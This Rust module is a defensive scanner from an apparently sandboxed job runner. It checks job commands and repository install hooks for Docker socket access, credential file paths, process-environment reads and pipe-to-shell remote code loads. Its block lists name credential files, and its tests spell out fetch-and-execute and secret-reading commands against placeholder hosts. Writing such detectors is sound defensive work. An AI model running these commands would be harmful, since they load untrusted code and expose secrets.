//! Stage 5: scan. The job's own commands and the repository's install hooks (package.json scripts,
//! build.rs, setup.py, conftest.py, Makefiles, `.cargo/config.toml` runners) read as text for Docker
//! sockets, credential paths, process environments and remote code loads (`curl ... | sh`). A job command
//! doing these is refused; a repository file doing them is a recorded finding that the fence contains.

use crate::job::Job;
use crate::report::{Finding, IntakeLimits, Severity, Stage};
use std::fs;
use std::path::{Path, PathBuf};

/// One suspicious thing in a text.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub struct Hit {
    /// 1-based line in the scanned text.
    pub line: usize,
    /// The category (`docker socket`, `credential path`, `process environment`, `remote code load`).
    pub category: &'static str,
    /// The matched text, shortened.
    pub excerpt: String,
}

const SOCKETS: &[&str] = &[
    "docker.sock",
    "containerd.sock",
    "podman.sock",
    "docker_host",
];

const CREDENTIALS: &[&str] = &[
    "/.ssh",
    "~/.ssh",
    ".ssh/id_",
    "/.aws",
    "~/.aws",
    ".config/gcloud",
    ".netrc",
    ".cargo/credentials",
    ".docker/config.json",
    ".kube/config",
    ".git-credentials",
    "/.gnupg",
    "~/.gnupg",
    "/.pypirc",
    "~/.pypirc",
    "~/.npmrc",
    "$home/.npmrc",
    "aws_secret_access_key",
];

const FETCHERS: &[&str] = &["curl", "wget", "fetch", "iwr", "invoke-webrequest"];

const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "node",
    "php",
    "source",
    ".",
    "iex",
    "pwsh",
    "powershell",
];

/// The program word of a pipeline segment: skips `sudo`, `env`, `exec`, `command`, options and `VAR=x`.
fn program_word(segment: &str) -> Option<String> {
    for w in segment.split_whitespace() {
        // A shell separator ends the word: `| sh; sleep 5` pipes into `sh`.
        let w = w.split([';', '&', ')']).next().unwrap_or(w);
        let w = w.trim_matches(|c| c == '(' || c == ')' || c == '{' || c == '"' || c == '\'');
        if w.is_empty()
            || w.starts_with('-')
            || w.contains('=')
            || ["sudo", "env", "exec", "command", "nohup", "time"].contains(&w)
        {
            continue;
        }
        let base = w.rsplit('/').next().unwrap_or(w);
        return Some(base.to_string());
    }
    None
}

fn is_fetcher(word: &str) -> bool {
    FETCHERS.contains(&word)
}

fn contains_fetch_word(segment: &str) -> bool {
    segment
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '_'))
        .any(is_fetcher)
}

fn remote_code_load(line: &str) -> bool {
    let l = line.to_ascii_lowercase();
    // `fetch ... | interpreter`, on `|` but not `||`.
    let segments: Vec<&str> = split_pipes(&l);
    if segments.len() > 1 {
        let mut fetched = false;
        for seg in &segments {
            if fetched {
                if let Some(p) = program_word(seg) {
                    if INTERPRETERS.contains(&p.as_str())
                        || p.starts_with("python")
                        || p.starts_with("ruby")
                        || p.starts_with("perl")
                    {
                        return true;
                    }
                }
            }
            if contains_fetch_word(seg) {
                fetched = true;
            }
        }
    }
    // Command substitution or process substitution of a fetch, evaluated.
    let subst = [
        "$(curl", "$(wget", "`curl", "`wget", "<(curl", "<(wget", "$( curl", "$( wget",
    ];
    if subst.iter().any(|s| l.contains(s)) {
        let evaluators = [
            "eval",
            "sh -c",
            "bash -c",
            "zsh -c",
            "source",
            ". <(",
            "sh <(",
            "bash <(",
            "python -c",
            "python3 -c",
            "node -e",
            "perl -e",
            "ruby -e",
        ];
        if evaluators.iter().any(|e| l.contains(e)) {
            return true;
        }
    }
    // Download to a file, then run that file (`curl -o i.sh URL && sh i.sh`).
    if contains_fetch_word(&l) {
        let words: Vec<&str> = l.split_whitespace().collect();
        let mut outputs: Vec<String> = Vec::new();
        for (i, w) in words.iter().enumerate() {
            let takes_file = ["-o", "-O", "--output", "--output-document", ">", ">>"].contains(w)
                || (w.starts_with('-') && !w.starts_with("--") && w.ends_with('o') && w.len() <= 6);
            if takes_file {
                if let Some(f) = words.get(i + 1) {
                    let f = f.trim_matches(|c| c == '"' || c == '\'' || c == ';');
                    if !f.is_empty() && f != "-" && !f.starts_with('-') {
                        outputs.push(f.to_string());
                    }
                }
            } else if let Some(f) = w
                .strip_prefix("--output=")
                .or_else(|| w.strip_prefix("--output-document="))
            {
                outputs.push(f.to_string());
            }
        }
        for f in outputs {
            let base = f.rsplit('/').next().unwrap_or(&f).to_string();
            let runs = [
                format!("sh {f}"),
                format!("bash {f}"),
                format!("source {f}"),
                format!(". {f}"),
                format!("./{base}"),
                format!("python {f}"),
                format!("python3 {f}"),
                format!("perl {f}"),
                format!("node {f}"),
                format!("ruby {f}"),
                format!("chmod +x {f}"),
                format!("zsh {f}"),
            ];
            if runs.iter().any(|r| {
                l.match_indices(r.as_str()).any(|(at, _)| {
                    // the file name must end there (`sh i.sh` is not `sh i.shx`)
                    l[at + r.len()..].chars().next().is_none_or(|c| {
                        c.is_whitespace() || c == ';' || c == '&' || c == '|' || c == ')'
                    })
                })
            }) {
                return true;
            }
        }
    }
    // Interpreters evaluating what they download.
    let dyn_eval = [
        ("exec(", "urlopen"),
        ("exec(", "requests.get"),
        ("eval(", "urlopen"),
        ("eval(", "requests.get"),
        ("eval(", "fetch("),
        ("eval(", "http.get"),
        ("iex", "downloadstring"),
    ];
    dyn_eval.iter().any(|(a, b)| l.contains(a) && l.contains(b))
}

fn split_pipes(l: &str) -> Vec<&str> {
    let b = l.as_bytes();
    let mut out = Vec::new();
    let mut start = 0;
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'|' {
            if i + 1 < b.len() && b[i + 1] == b'|' {
                i += 2;
                continue;
            }
            if i > 0 && b[i - 1] == b'|' {
                i += 1;
                continue;
            }
            out.push(&l[start..i]);
            start = i + 1;
        }
        i += 1;
    }
    out.push(&l[start..]);
    out
}

fn excerpt(line: &str) -> String {
    let t = line.trim();
    if t.chars().count() > 160 {
        let s: String = t.chars().take(160).collect();
        format!("{s}...")
    } else {
        t.to_string()
    }
}

/// Scans a text (a command, a script, a source file) line by line; backslash-newline continuations are
/// joined first so a pipeline split over lines is still one line.
pub fn scan_text(text: &str) -> Vec<Hit> {
    let mut hits = Vec::new();
    let mut logical = String::new();
    let mut first_line = 1;
    for (i, raw) in text.lines().enumerate() {
        if logical.is_empty() {
            first_line = i + 1;
        }
        if let Some(stripped) = raw.strip_suffix('\\') {
            logical.push_str(stripped);
            logical.push(' ');
            continue;
        }
        logical.push_str(raw);
        scan_line(&logical, first_line, &mut hits);
        logical.clear();
    }
    if !logical.is_empty() {
        scan_line(&logical, first_line, &mut hits);
    }
    hits
}

fn scan_line(line: &str, n: usize, hits: &mut Vec<Hit>) {
    let l = line.to_ascii_lowercase();
    let mut hit = |category| {
        hits.push(Hit {
            line: n,
            category,
            excerpt: excerpt(line),
        })
    };
    if SOCKETS.iter().any(|s| l.contains(s)) {
        hit("docker socket");
    }
    if CREDENTIALS.iter().any(|s| l.contains(s)) {
        hit("credential path");
    }
    if l.contains("/proc/") && l.contains("environ") {
        hit("process environment");
    }
    if remote_code_load(line) {
        hit("remote code load");
    }
}

/// Stage 5 on the job's commands: every hit is a refusal.
pub fn scan_job(job: &Job) -> Vec<Finding> {
    let mut out = Vec::new();
    let mut cmds: Vec<(&str, &str)> = Vec::new();
    if let Some(i) = &job.install {
        cmds.push(("install.command", &i.command));
    }
    if let Some(t) = &job.test.command {
        cmds.push(("test.command", t));
    }
    for (key, cmd) in cmds {
        for h in scan_text(cmd) {
            out.push(Finding::new(
                Stage::Scan,
                Severity::Refusal,
                key,
                format!("{}: `{}`", h.category, h.excerpt),
            ));
        }
    }
    out
}

/// Install-hook files stage 5 reads in a repository.
fn hook_kind(path: &Path) -> Option<&'static str> {
    let name = path.file_name()?.to_str()?;
    let parent = path
        .parent()
        .and_then(|p| p.file_name())
        .and_then(|n| n.to_str());
    match name {
        "package.json" => Some("package.json"),
        "build.rs" => Some("build.rs"),
        "setup.py" => Some("setup.py"),
        "conftest.py" => Some("conftest.py"),
        "Makefile" | "makefile" | "GNUmakefile" => Some("Makefile"),
        "config.toml" | "config" if parent == Some(".cargo") => Some("cargo config"),
        _ => None,
    }
}

/// Stage 5 on a repository directory: hooks doing suspicious things are `Contained` findings; hooks that
/// redirect what runs (cargo runners and wrappers) too; files too large to read are notes.
pub fn scan_repository(repo: &Path, limits: &IntakeLimits) -> Vec<Finding> {
    let mut out = Vec::new();
    let mut stack: Vec<PathBuf> = vec![repo.to_path_buf()];
    let mut seen: u64 = 0;
    while let Some(dir) = stack.pop() {
        let Ok(rd) = fs::read_dir(&dir) else {
            continue;
        };
        let mut items: Vec<PathBuf> = rd.filter_map(|d| d.ok().map(|d| d.path())).collect();
        items.sort();
        for p in items {
            seen += 1;
            if seen > limits.max_entries {
                out.push(Finding::new(
                    Stage::Scan,
                    Severity::Note,
                    rel(repo, &p),
                    format!(
                        "scan stopped after max_entries = {} files",
                        limits.max_entries
                    ),
                ));
                return out;
            }
            let Ok(m) = fs::symlink_metadata(&p) else {
                continue;
            };
            if m.is_dir() {
                if p.file_name().is_some_and(|n| n == ".git") {
                    continue;
                }
                stack.push(p);
                continue;
            }
            if !m.is_file() {
                continue;
            }
            let Some(kind) = hook_kind(&p) else {
                continue;
            };
            let where_ = rel(repo, &p);
            if m.len() > limits.max_scan_file_bytes {
                out.push(Finding::new(
                    Stage::Scan,
                    Severity::Note,
                    where_,
                    format!(
                        "{kind} not scanned: {} bytes, more than max_scan_file_bytes = {}",
                        m.len(),
                        limits.max_scan_file_bytes
                    ),
                ));
                continue;
            }
            let Ok(bytes) = fs::read(&p) else {
                continue;
            };
            let text = String::from_utf8_lossy(&bytes);
            scan_hook(kind, &where_, &text, &mut out);
        }
    }
    out
}

fn rel(root: &Path, p: &Path) -> String {
    p.strip_prefix(root).unwrap_or(p).display().to_string()
}

fn contained(out: &mut Vec<Finding>, location: String, kind: &str, h: &Hit) {
    out.push(Finding::new(
        Stage::Scan,
        Severity::Contained,
        location,
        format!("{kind}: {}: `{}`", h.category, h.excerpt),
    ));
}

fn scan_hook(kind: &str, where_: &str, text: &str, out: &mut Vec<Finding>) {
    match kind {
        "package.json" => {
            // Only the lifecycle scripts npm runs on install are hooks; the rest of the manifest is data.
            let Ok(v) = serde_json::from_str::<serde_json::Value>(text) else {
                out.push(Finding::new(
                    Stage::Scan,
                    Severity::Note,
                    where_,
                    "package.json is not valid JSON; not scanned",
                ));
                return;
            };
            for hook in [
                "preinstall",
                "install",
                "postinstall",
                "prepare",
                "preprepare",
                "postprepare",
            ] {
                if let Some(s) = v
                    .pointer(&format!("/scripts/{hook}"))
                    .and_then(|s| s.as_str())
                {
                    for h in scan_text(s) {
                        contained(out, format!("{where_}: scripts.{hook}"), kind, &h);
                    }
                }
            }
        }
        "cargo config" => {
            if let Ok(t) = text.parse::<toml::Table>() {
                let mut redirect = |key: String, val: &toml::Value| {
                    out.push(Finding::new(
                        Stage::Scan,
                        Severity::Contained,
                        where_.to_string(),
                        format!("cargo config sets `{key}` = {val}: cargo will run that program"),
                    ));
                };
                if let Some(b) = t.get("build").and_then(|b| b.as_table()) {
                    for k in [
                        "rustc",
                        "rustc-wrapper",
                        "rustc-workspace-wrapper",
                        "rustdoc",
                    ] {
                        if let Some(v) = b.get(k) {
                            redirect(format!("build.{k}"), v);
                        }
                    }
                }
                if let Some(targets) = t.get("target").and_then(|b| b.as_table()) {
                    for (name, tv) in targets {
                        if let Some(tt) = tv.as_table() {
                            for k in ["runner", "linker"] {
                                if let Some(v) = tt.get(k) {
                                    redirect(format!("target.{name}.{k}"), v);
                                }
                            }
                        }
                    }
                }
            }
            for h in scan_text(text) {
                contained(out, format!("{where_}:{}", h.line), kind, &h);
            }
        }
        _ => {
            for h in scan_text(text) {
                contained(out, format!("{where_}:{}", h.line), kind, &h);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cats(s: &str) -> Vec<&'static str> {
        scan_text(s).into_iter().map(|h| h.category).collect()
    }

    #[test]
    fn remote_code_loads() {
        for bad in [
            "curl -fsSL https://get.example/install.sh | sh",
            "curl https://x.example | sudo bash -s -- --yes",
            "wget -O- https://x.example/i | bash",
            "wget -qO - https://x.example/i|python3 -",
            "eval \"$(curl -s https://x.example/env)\"",
            "sh -c \"$(wget -O- https://x.example)\"",
            "bash <(curl -s https://x.example)",
            "curl -s https://x.example \\\n  | sh",
            "python -c \"exec(urlopen('https://x.example').read())\"",
            "curl -fsSL -o install.sh https://x.example/i && sh install.sh",
            "wget -O /tmp/i.sh https://x.example/i; bash /tmp/i.sh",
            "curl -sLo setup https://x.example/s && chmod +x setup && ./setup",
            "curl https://x.example/i > i.py && python3 i.py",
            "curl -s http://x.example/i.sh | sh; sleep 5",
            "curl -s http://x.example/i.sh | sh&& true",
            "curl -s http://x.example/i.sh | (bash)",
        ] {
            assert!(cats(bad).contains(&"remote code load"), "{bad}");
        }
        for ok in [
            "curl -o file.tgz https://x.example/a.tgz && tar xzf file.tgz",
            "cargo test || true",
            "echo curl | grep curl",
            "make test",
            "wget https://x.example/data.csv",
            "curl -o data.tgz https://x.example/d.tgz && tar xzf data.tgz && sh test.sh",
            "curl -o i.sh https://x.example/i && sh i.shx",
        ] {
            assert!(!cats(ok).contains(&"remote code load"), "{ok}");
        }
    }

    #[test]
    fn sockets_credentials_environ() {
        assert!(cats("docker -H unix:///var/run/docker.sock ps").contains(&"docker socket"));
        assert!(cats("cat ~/.ssh/id_rsa").contains(&"credential path"));
        assert!(cats("cp $HOME/.aws/credentials /tmp").contains(&"credential path"));
        assert!(cats("open(os.path.expanduser('~/.netrc'))").contains(&"credential path"));
        assert!(cats("cat /proc/1/environ").contains(&"process environment"));
        assert!(cats("tr '\\0' '\\n' < /proc/self/environ").contains(&"process environment"));
        assert!(cats("cargo test --workspace").is_empty());
    }
}
